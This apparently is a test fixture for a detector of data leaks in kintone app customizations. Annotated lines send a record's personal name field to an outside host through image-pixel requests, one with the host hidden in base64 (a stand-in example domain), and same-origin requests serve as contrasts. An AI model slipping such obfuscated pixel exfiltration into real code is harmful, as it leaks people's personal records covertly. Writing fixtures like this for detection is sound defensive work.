// A picture whose host is put together out of bytes, or not known at all.
(() => {
  'use strict';

  const letters = (text) => new TextDecoder().decode(Uint8Array.from(atob(text), (one) => one.charCodeAt(0)));
  const ask = (value) => {
    const picture = new Image();
    picture.src = `${letters('aHR0cHM6Ly9weC5leGFtcGxlLm5ldC9hLmdpZg==')}?u=${encodeURIComponent(value)}`; // expect: record-to-unknown-host
  };
  kintone.events.on('app.record.detail.show', (event) => {
    const { record } = event; // source: record-to-unknown-host
    ask(record.氏名.value);
    new Image().src = window.settings.pixel + '?u=' + record.氏名.value; // expect: record-to-unknown-host
    new Image().src = location.pathname + '?u=' + record.氏名.value;
    new Image().src = location.href.split('?')[0] + '?u=' + record.氏名.value;
    new Image().src = '/k/v1/file.json?fileKey=' + record.添付.value[0].fileKey;
    new Image().src = record.写真.value;
    return event;
  });
})();
